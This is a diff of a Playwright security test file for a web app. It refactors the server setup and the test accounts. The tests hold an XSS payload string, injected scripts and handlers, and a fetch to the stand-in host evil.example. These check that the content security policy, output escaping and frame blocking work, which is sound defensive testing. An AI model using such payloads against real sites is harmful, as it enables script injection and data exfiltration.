@@ -1,15 +1,9 @@
-import { expect, type Page, test } from '@playwright/test';
+import { expect, type Page } from '@playwright/test';
+import { accounts, loginBody } from '../../support/accounts.ts';
 import { signIn } from '../../support/browser-steps.ts';
-import { startProjectServer } from '../../support/project-server.ts';
-import type { RunningServer } from '../../support/running-server.ts';
+import { realServer, test, testedServer } from '../../support/server-fixture.ts';
 
-/** Undefined where this engine is not available. */
-let started: RunningServer | undefined;
-let server: RunningServer;
-test.beforeAll(async () => {
-  server = started = await startProjectServer({ LOG_LEVEL: 'warn' });
-});
-test.afterAll(() => started?.stop());
+const server = testedServer();
 
 const hostile = `"><img src=x onerror="window.owned=1"><script>window.owned=1</script>\u202eevil`;
 
@@ -22,50 +16,56 @@ function violationsOf(page: Page): string[] {
   return found;
 }
 
-test('the app and the reference work under their content security policies, which block injected scripts', async ({
-  page,
-}) => {
-  const violations = violationsOf(page);
-  await signIn(page, server.url, 'admin@example.com');
-  for (const path of ['/diamonds', '/orders', '/api/docs']) {
-    await page.goto(`${server.url}${path}`);
-    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
-  }
-  expect(violations).toEqual([]);
-  await page.goto(`${server.url}/orders`);
-  const tried = await page.evaluate(async () => {
-    const script = document.createElement('script');
-    script.textContent = 'window.owned = 1';
-    document.body.append(script);
-    const link = document.createElement('a');
-    link.setAttribute('onclick', 'window.owned = 1');
-    link.click();
-    const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
-      () => 'sent',
-      () => 'refused',
-    );
-    return [(window as { owned?: number }).owned ?? 'clean', sent];
-  });
-  expect(tried).toEqual(['clean', 'refused']);
-  expect(violations.length).toBeGreaterThan(1);
-});
+test(
+  'the app and the reference work under their content security policies, which block injected scripts',
+  realServer('the server sets the policies of the pages'),
+  async ({ page }) => {
+    const violations = violationsOf(page);
+    await signIn(page, server.url, accounts.admin);
+    for (const path of ['/diamonds', '/orders', '/api/docs']) {
+      await page.goto(`${server.url}${path}`);
+      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
+    }
+    expect(violations).toEqual([]);
+    await page.goto(`${server.url}/orders`);
+    const tried = await page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.owned = 1';
+      document.body.append(script);
+      const link = document.createElement('a');
+      link.setAttribute('onclick', 'window.owned = 1');
+      link.click();
+      const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
+        () => 'sent',
+        () => 'refused',
+      );
+      return [(window as { owned?: number }).owned ?? 'clean', sent];
+    });
+    expect(tried).toEqual(['clean', 'refused']);
+    expect(violations.length).toBeGreaterThan(1);
+  },
+);
 
 test('markup in user input is displayed as text', async ({ page, request }) => {
-  const login = { email: 'buyer@example.com', password: 'demo-password', appType: 'ADMIN' };
+  const login = loginBody(accounts.buyer);
   const { token } = await (await request.post(`${server.url}/api/auth/login`, { data: login })).json();
   const headers = { token };
   const found = await request.post(`${server.url}/api/diamond/search`, { headers, data: { pageSize: 1 } });
   const { id, total_amount: amount } = (await found.json()).data.data[0];
   const data = { remark: hostile, diamondIdWithAmount: [{ id, amount }] };
   expect((await request.post(`${server.url}/api/diamond/order`, { headers, data })).status()).toBe(200);
-  await signIn(page, server.url, 'admin@example.com');
+  await signIn(page, server.url, accounts.admin);
   await page.goto(`${server.url}/orders`);
   await expect(page.getByText('window.owned=1').first()).toBeVisible();
   expect(await page.evaluate(() => (window as { owned?: number }).owned)).toBeUndefined();
 });
 
-test('pages of other origins cannot frame the app', async ({ page }) => {
-  await page.goto('about:blank');
-  await page.setContent(`<iframe src="${server.url}/login" title="framed"></iframe>`);
-  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
-});
+test(
+  'pages of other origins cannot frame the app',
+  realServer('the server sets the policies of the pages'),
+  async ({ page }) => {
+    await page.goto('about:blank');
+    await page.setContent(`<iframe src="${server.url}/login" title="framed"></iframe>`);
+    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
+  },
+);
